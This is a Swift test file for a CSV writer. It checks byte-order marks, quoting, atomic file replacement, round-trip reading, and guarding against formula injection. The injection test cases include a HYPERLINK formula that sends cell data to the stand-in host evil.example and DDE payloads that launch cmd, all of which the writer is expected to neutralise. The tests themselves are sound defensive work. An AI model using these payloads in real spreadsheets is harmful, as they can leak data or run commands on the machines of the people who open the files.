import Foundation
import Testing
@testable import Sheets

@Suite struct CSVWriterTests {
    static let rows: [[OutputCell]] = [
        [.text("学校代码", bold: true), .text("学校名称", bold: true), .text("承接数量", bold: true), .text("汇总", bold: true),
         .text("修改意见", bold: true)],
        [.text("3701000001"), .text("济南市历城职业中等专业学校"), .integer(2), .decimal("12345678.9999"),
         .text("请核实“三全育人”，\"德育\"部分\r\n另：补充依据")],
        [.text("3702000003"), .empty, .text("-"), .decimal("0.0001"), .empty],
    ]

    /// Writes `rows` to `name` in `scratch`.
    static func written(_ name: String, in scratch: Scratch) throws -> URL {
        let url = scratch.file(name)
        let writer = try CSVWriter(url: url)
        for row in rows { try writer.appendRow(row) }
        try writer.finish()
        return url
    }

    @Test func writesABOMCRLFAndQuotesOnlyWhenNeeded() throws {
        let scratch = try Scratch()
        let url = try Self.written("承接任务明细.csv", in: scratch)
        let bytes = [UInt8](try Data(contentsOf: url))
        #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        #expect(text == "学校代码,学校名称,承接数量,汇总,修改意见\r\n"
            + "3701000001,济南市历城职业中等专业学校,2,12345678.9999,\"请核实“三全育人”，\"\"德育\"\"部分\r\n另：补充依据\"\r\n"
            + "3702000003,,-,0.0001,\r\n")
        #expect(try scratch.names() == ["承接任务明细.csv"])
    }

    @Test func whatItWritesReadsBackCellForCell() throws {
        let scratch = try Scratch()
        let rows = try records([UInt8](try Data(contentsOf: Self.written("a.csv", in: scratch))))
        #expect(rows.map(\.line) == [1, 2, 4])
        #expect(rows.map(\.cells) == Self.rows.map { $0.map { $0.csvText.isEmpty ? nil : $0.csvText } })
    }

    @Test func aFailedWriteLeavesTheOldFileAndNoTemporaryFile() throws {
        let scratch = try Scratch()
        let url = try scratch.existing("a.csv", "旧文件")
        do {
            let writer = try CSVWriter(url: url)
            try writer.appendRow(Self.rows[0])
            let staged = try #require(try scratch.names().first { $0.hasPrefix(".a.csv.") && $0.hasSuffix(".tmp") })
            #expect(try scratch.names().count == 2)
            try FileManager.default.removeItem(at: scratch.url.appendingPathComponent(staged))
            #expect(throws: SheetWriteError.self) { try writer.finish() }
        }
        #expect(try String(contentsOf: url, encoding: .utf8) == "旧文件")
        #expect(try scratch.names() == ["a.csv"])
    }

    @Test func anUnfinishedWriterLeavesNothing() throws {
        let scratch = try Scratch()
        do {
            let writer = try CSVWriter(url: scratch.file("a.csv"))
            try writer.appendRow(Self.rows[1])
        }
        #expect(try scratch.names().isEmpty)
    }

    /// OWASP's CSV injection cases: text that Excel would run as a formula gets a leading `'`; numbers, the
    /// placeholder `-` alone, and text with a trigger later in it are written as they are.
    static let formulaCases: [(OutputCell, String)] = [
        (.text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"), "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\""),
        (.text("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0"),
        (.text("@SUM(1+1)*cmd|' /C calc'!A0"), "'@SUM(1+1)*cmd|' /C calc'!A0"),
        (.text("-2+3"), "'-2+3"),
        (.text("=1+1", bold: true), "'=1+1"),
        (.text("\t=1+1"), "'\t=1+1"),
        (.text("\r=1+1"), "\"'\r=1+1\""),
        (.text("'=1+1"), "''=1+1"),
        (.text("''-"), "'''-"),
        (.text("-"), "-"),
        (.text("'"), "'"),
        (.text("a=1+1"), "a=1+1"),
        (.text(" =1+1"), " =1+1"),
        (.text("济南市=1"), "济南市=1"),
        (.integer(-5), "-5"),
        (.decimal("-12.5"), "-12.5"),
        (.decimal("0.0001"), "0.0001"),
        (.empty, ""),
    ]

    @Test func textThatExcelWouldRunAsAFormulaIsGuarded() throws {
        let scratch = try Scratch()
        let url = scratch.file("注入.csv")
        let writer = try CSVWriter(url: url)
        for (cell, _) in Self.formulaCases { try writer.appendRow([cell, .text("x")]) }
        try writer.finish()
        let text = String(decoding: [UInt8](try Data(contentsOf: url)).dropFirst(3), as: UTF8.self)
        #expect(text == Self.formulaCases.map { $0.1 + ",x\r\n" }.joined())
    }

    /// The reader drops the guard again, so an export imports as it was.
    @Test func guardedTextReadsBackAsItWas() throws {
        let scratch = try Scratch()
        let url = scratch.file("往返.csv")
        let writer = try CSVWriter(url: url)
        for (cell, _) in Self.formulaCases { try writer.appendRow([cell, .text("x")]) }
        try writer.finish()
        let rows = try records([UInt8](try Data(contentsOf: url)))
        #expect(rows.map { $0.cells.first ?? nil } == Self.formulaCases.map { $0.0.csvText.isEmpty ? nil : $0.0.csvText })
        #expect(try records("'=1,'x,''+,'-\n")[0].cells == ["=1", "'x", "'+", "-"])
    }
}
